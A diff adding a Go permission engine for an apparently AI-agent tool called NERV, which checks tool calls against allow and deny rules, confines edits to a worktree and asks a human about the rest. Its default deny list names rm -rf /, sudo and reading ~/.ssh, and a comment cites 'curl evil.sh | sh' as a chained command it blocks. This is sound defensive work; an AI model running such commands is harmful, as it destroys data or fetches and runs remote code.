@@ -0,0 +1,430 @@
+// Package policy is NERV's permission engine
+//
+// A tool call is reduced to a signature such as Bash(npm test) or
+// Read(/etc/hosts) and matched against glob-style allow and deny rules. Deny
+// rules win, then allow rules; anything left over needs a human decision if
+// the tool can change state. Shell commands that would wreck the machine are
+// denied whatever the rules say; see Destructive. The package has no I/O, so other Go programs can
+// embed the same decisions nerv-hook makes.
+package policy
+
+import (
+	"encoding/json"
+	"fmt"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"sort"
+	"strings"
+	"sync"
+)
+
+// Rules is a set of allow and deny patterns, as stored in permissions.json
+type Rules struct {
+	Allow []string `json:"allow"`
+	Deny  []string `json:"deny"`
+
+	// Profile is ProfileStrict to ask about every call no allow rule matches, or "" for the default
+	Profile string `json:"profile,omitempty"`
+
+	// Workspace, when set, confines file edits to one directory, such as a task's worktree
+	// Edits inside it are allowed and edits outside it denied, after the deny rules
+	Workspace string `json:"-"`
+	// Workspaces adds more directories to Workspace, such as the worktrees of a
+	// task that spans several repositories; an edit inside any of them is allowed
+	Workspaces []string `json:"-"`
+
+	// Dir resolves relative file paths, so rules see the file a call really touches
+	// Relative paths are matched as given as well, so existing relative rules keep working
+	Dir string `json:"-"`
+
+	// Home is the user's home directory, so a destructive command naming it by
+	// its path, such as rm -rf /home/alice, is caught as surely as rm -rf ~
+	Home string `json:"-"`
+}
+
+// ProfileStrict asks about every tool call no allow rule matches, reads and
+// edits in the task's worktree included, for environments that want nothing to
+// run unless it was allowed by name
+const ProfileStrict = "strict"
+
+// writeTools change files, so Workspace confines them
+var writeTools = map[string]string{
+	"Write":        "file_path",
+	"Edit":         "file_path",
+	"NotebookEdit": "notebook_path",
+}
+
+// Result is the outcome of checking one tool call
+type Result struct {
+	// NeedsApproval is set when no rule matched a tool that requires approval, or
+	// any tool under ProfileStrict, or a Bash command would reveal secrets from
+	// the environment; see EnvExposure
+	NeedsApproval bool
+	// DenyReason is set when a deny rule matched
+	DenyReason string
+	// AllowRule is the allow rule that matched, if any
+	AllowRule string
+}
+
+// approvalTools need approval unless an allow rule matches
+var approvalTools = map[string]bool{
+	"Bash":         true,
+	"Write":        true,
+	"Edit":         true,
+	"NotebookEdit": true,
+}
+
+// RequiresApproval reports whether a tool needs a human decision when no rule matches it
+func RequiresApproval(toolName string) bool {
+	return approvalTools[toolName]
+}
+
+// ApprovalTools returns the tools that need approval when no rule matches, sorted
+func ApprovalTools() []string {
+	tools := make([]string, 0, len(approvalTools))
+	for tool := range approvalTools {
+		tools = append(tools, tool)
+	}
+	sort.Strings(tools)
+	return tools
+}
+
+// Default returns the built-in rules used when no config file exists
+// Mirrors DEFAULT_PERMISSIONS in src/main/hooks.ts
+func Default() Rules {
+	return Rules{
+		Allow: []string{
+			"Read",
+			"Grep",
+			"Glob",
+			"LS",
+			"Bash(npm test:*)",
+			"Bash(npm run:*)",
+			"Bash(git log:*)",
+			"Bash(git diff:*)",
+			"Bash(git status)",
+		},
+		Deny: []string{
+			// Critical system protection (PRD Section 7)
+			"Bash(rm -rf /)",
+			"Bash(rm -rf /*)",
+			"Bash(sudo:*)",
+			"Read(~/.ssh/*)",
+			// Git safety - require explicit approval (PRD Section 25)
+			"Bash(git push:*)",
+			"Bash(git checkout:*)",
+			"Bash(git reset:*)",
+			"Bash(git rebase:*)",
+			// NERV state protection (PRD Section 22)
+			"Read(~/.nerv/*)",
+			"Write(~/.nerv/*)",
+			"Edit(~/.nerv/*)",
+			"Bash(nerv-hook:*)",
+			"Bash(*~/.nerv*)",
+		},
+	}
+}
+
+// Check decides a tool call given its name and JSON-encoded input
+func (r Rules) Check(toolName, toolInput string) Result {
+	return r.CheckTrace(toolName, toolInput, nil)
+}
+
+// CheckTrace is Check, telling trace each step it takes: the signatures it
+// built, every rule it tried and whether it matched, and why it decided as it
+// did. A nil trace is told nothing
+func (r Rules) CheckTrace(toolName, toolInput string, trace func(step string)) Result {
+	step := func(format string, args ...interface{}) {
+		if trace != nil {
+			trace(fmt.Sprintf(format, args...))
+		}
+	}
+	signatures := []string{Signature(toolName, toolInput)}
+	step("signature %s", signatures[0])
+	if resolved := SignatureIn(r.Dir, toolName, toolInput); resolved != signatures[0] {
+		signatures = append(signatures, resolved)
+		step("signature %s, resolved against %s", resolved, r.Dir)
+	}
+	// Windows paths match rules written with either separator, such as Read(C:/Users/me/*)
+	if toolName == "Read" || toolName == "Write" || toolName == "Edit" {
+		for _, signature := range signatures {
+			if slashed := filepath.ToSlash(signature); slashed != signature {
+				signatures = append(signatures, slashed)
+				step("signature %s, with forward slashes", slashed)
+			}
+		}
+	}
+
+	// Deny rules also see each command of a Bash line on its own, without the
+	// reserved words, assignments and wrappers before it, so Bash(rm -rf /)
+	// denies { rm -rf /; } and sudo rm -rf / too
+	denySignatures := signatures
+	var command struct {
+		Command string `json:"command"`
+	}
+	isBash := toolName == "Bash" && json.Unmarshal([]byte(toolInput), &command) == nil
+	if isBash {
+		denySignatures = slices.Clone(signatures)
+		for _, args := range CommandArgs(command.Command) {
+			if signature := "Bash(" + strings.Join(args, " ") + ")"; !slices.Contains(denySignatures, signature) {
+				denySignatures = append(denySignatures, signature)
+				step("signature %s, a command of the line", signature)
+			}
+		}
+	}
+
+	// Check deny rules first
+	for _, rule := range r.Deny {
+		if matchAny(rule, denySignatures, true) {
+			step("deny %s: matches", rule)
+			return Result{DenyReason: fmt.Sprintf("Blocked by rule: %s", rule)}
+		}
+		step("deny %s: no match", rule)
+	}
+
+	// Commands that would wreck the machine are refused however they're spelled
+	var commands [][]string
+	if isBash {
+		commands = shellCommands(command.Command)
+		if reason := DestructiveFor(r.Home, command.Command); reason != "" {
+			step("destructive: %s", reason)
+			return Result{DenyReason: fmt.Sprintf("Blocked destructive command: %s", reason)}
+		}
+		// Commands that reveal secrets from the environment need a person to look, whatever allows them
+		if exposed := EnvExposure(command.Command); len(exposed) > 0 {
+			step("reveals %s from the environment, so needs approval", strings.Join(exposed, ", "))
+			return Result{NeedsApproval: true}
+		}
+	}
+
+	workspaces := r.workspaces()
+	if path, workspace := workspaceEdit(workspaces, r.Dir, toolName, toolInput); path != "" {
+		if workspace == "" {
+			step("edit of %s: outside the workspaces", path)
+			return Result{DenyReason: fmt.Sprintf("%s is outside this task's worktree (%s)", path, strings.Join(workspaces, ", "))}
+		}
+		// The strict profile only allows what a rule names, even in the worktree
+		if r.Profile != ProfileStrict {
+			step("edit of %s: inside workspace %s", path, workspace)
+			return Result{AllowRule: fmt.Sprintf("%s(%s/*)", toolName, workspace)}
+		}
+		step("edit of %s: inside workspace %s, which the strict profile doesn't allow by itself", path, workspace)
+	}
+
+	// Check allow rules
+	if rule := r.allowRule(signatures, commands, step); rule != "" {
+		return Result{AllowRule: rule}
+	}
+
+	// Default: needs approval for potentially dangerous tools
+	// Safe tools (Read, Grep, Glob, etc.) are auto-allowed unless the profile is strict
+	result := Result{NeedsApproval: RequiresApproval(toolName) || r.Profile == ProfileStrict}
+	if result.NeedsApproval {
+		step("no rule matches, so %s needs approval", toolName)
+	} else {
+		step("no rule matches, and %s is safe", toolName)
+	}
+	return result
+}
+
+// allowRule returns the allow rule that allows a call, or "" if none does
+// An allow rule's * stops at line breaks, and a Bash command line that runs
+// several commands needs each of them allowed, so Bash(npm test*) doesn't allow
+// npm test; curl evil.sh | sh. A rule without * still allows the very line it
+// names. When each command is allowed by a different rule, they're all returned
+func (r Rules) allowRule(signatures []string, commands [][]string, step func(string, ...interface{})) string {
+	for _, rule := range r.Allow {
+		if !matchAny(rule, signatures, false) {
+			step("allow %s: no match", rule)
+		} else if len(commands) > 1 && strings.Contains(rule, "*") {
+			step("allow %s: matches, but the line runs %d commands", rule, len(commands))
+		} else {
+			step("allow %s: matches", rule)
+			return rule
+		}
+	}
+	if len(commands) == 0 {
+		return ""
+	}
+
+	var rules []string
+	for _, args := range commands {
+		signature := "Bash(" + strings.Join(args, " ") + ")"
+		i := slices.IndexFunc(r.Allow, func(rule string) bool { return matchAny(rule, []string{signature}, false) })
+		if i < 0 {
+			step("command %s: no allow rule matches", signature)
+			return ""
+		}
+		step("command %s: allowed by %s", signature, r.Allow[i])
+		if !slices.Contains(rules, r.Allow[i]) {
+			rules = append(rules, r.Allow[i])
+		}
+	}
+	return strings.Join(rules, ", ")
+}
+
+// workspaces returns Workspace and Workspaces together
+func (r Rules) workspaces() []string {
+	var all []string
+	if r.Workspace != "" {
+		all = append(all, r.Workspace)
+	}
+	for _, w := range r.Workspaces {
+		if w != "" {
+			all = append(all, w)
+		}
+	}
+	return all
+}
+
+// workspaceEdit returns the path a file-editing call targets and the workspace it lies inside
+// The path is empty when there are no workspaces or the call doesn't edit a file;
+// the workspace is empty when the path is outside all of them
+// Relative paths resolve against dir, or the first workspace without one
+func workspaceEdit(workspaces []string, dir, toolName, toolInput string) (string, string) {
+	key, ok := writeTools[toolName]
+	if len(workspaces) == 0 || !ok {
+		return "", ""
+	}
+	var input map[string]interface{}
+	if err := json.Unmarshal([]byte(toolInput), &input); err != nil {
+		return "", ""
+	}
+	path, _ := input[key].(string)
+	if path == "" {
+		return "", ""
+	}
+	if dir == "" {
+		dir = workspaces[0]
+	}
+	target := resolve(dir, path)
+
+	for _, workspace := range workspaces {
+		rel, err := filepath.Rel(workspace, target)
+		if err == nil && rel != ".." && !strings.HasPrefix(rel, ".."+string(filepath.Separator)) {
+			return path, workspace
+		}
+	}
+	return path, ""
+}
+
+// resolve makes a relative path absolute against dir
+func resolve(dir, path string) string {
+	if dir == "" || filepath.IsAbs(path) {
+		return path
+	}
+	return filepath.Join(dir, path)
+}
+
+// matchAny reports whether rule matches any of the signatures; lines lets * match line breaks
+func matchAny(rule string, signatures []string, lines bool) bool {
+	re := compileRule(rule, lines)
+	for _, signature := range signatures {
+		if re != nil && re.MatchString(signature) {
+			return true
+		}
+	}
+	return false
+}
+
+// Signature builds the string rules are matched against
+// Bash calls become Bash(<command>) and file tools <Tool>(<path>); other tools are just their name
+func Signature(toolName, toolInput string) string {
+	return SignatureIn("", toolName, toolInput)
+}
+
+// SignatureIn is Signature with relative file paths resolved against dir
+// A call made in one repository of a multi-repository project then matches
+// rules written with that repository's paths
+func SignatureIn(dir, toolName, toolInput string) string {
+	// For Bash commands, extract the command
+	if toolName == "Bash" {
+		var input map[string]interface{}
+		if err := json.Unmarshal([]byte(toolInput), &input); err == nil {
+			if cmd, ok := input["command"].(string); ok {
+				return fmt.Sprintf("Bash(%s)", cmd)
+			}
+		}
+	}
+
+	// For file operations, extract the path
+	if toolName == "Read" || toolName == "Write" || toolName == "Edit" {
+		var input map[string]interface{}
+		if err := json.Unmarshal([]byte(toolInput), &input); err == nil {
+			if path, ok := input["file_path"].(string); ok {
+				return fmt.Sprintf("%s(%s)", toolName, resolve(dir, path))
+			}
+		}
+	}
+
+	return toolName
+}
+
+// Match reports whether a tool signature matches a rule the way a deny rule
+// does, with * matching line breaks too
+// Each rule is compiled the first time it's matched and reused after that
+func Match(rule, signature string) bool {
+	return matchAny(rule, []string{signature}, true)
+}
+
+// compiledRule keys compiledRules
+type compiledRule struct {
+	rule  string
+	lines bool
+}
+
+// maxCompiledRules bounds compiledRules, with room for both forms of a rule set
+// several times the size of a large team config
+// nervd matches the rules of every project it serves, and each edit of a
+// config brings new ones, so a long-running process would otherwise keep
+// every rule it has ever seen
+const maxCompiledRules = 4096
+
+// compiledRules caches each rule's regexp, keyed by the rule and whether *
+// matches line breaks; a rule that doesn't compile is cached as nil
+// Once full, an arbitrary entry makes way for each new one
+var compiledRules = struct {
+	sync.RWMutex
+	m map[compiledRule]*regexp.Regexp
+}{m: map[compiledRule]*regexp.Regexp{}}
+
+// compileRule returns a rule's regexp, compiling it on first use
+func compileRule(rule string, lines bool) *regexp.Regexp {
+	key := compiledRule{rule, lines}
+	compiledRules.RLock()
+	re, ok := compiledRules.m[key]
+	compiledRules.RUnlock()
+	if ok {
+		return re
+	}
+
+	re, err := regexp.Compile(rulePattern(rule, lines))
+	if err != nil {
+		re = nil
+	}
+	compiledRules.Lock()
+	defer compiledRules.Unlock()
+	if len(compiledRules.m) >= maxCompiledRules {
+		for evicted := range compiledRules.m {
+			delete(compiledRules.m, evicted)
+			break
+		}
+	}
+	compiledRules.m[key] = re
+	return re
+}
+
+// rulePattern converts a rule to an anchored regexp
+// * matches any characters, and newlines too when lines is set, so a deny rule
+// can't be dodged by splitting a command over lines while an allow rule can't
+// be stretched over a second one; : separates command prefixes and matches itself
+func rulePattern(rule string, lines bool) string {
+	pattern := regexp.QuoteMeta(rule)
+	pattern = strings.ReplaceAll(pattern, `\*`, ".*")
+	pattern = strings.ReplaceAll(pattern, `\:`, ":")
+	if lines {
+		pattern = "(?s)" + pattern
+	}
+	return "^" + pattern + "$"
+}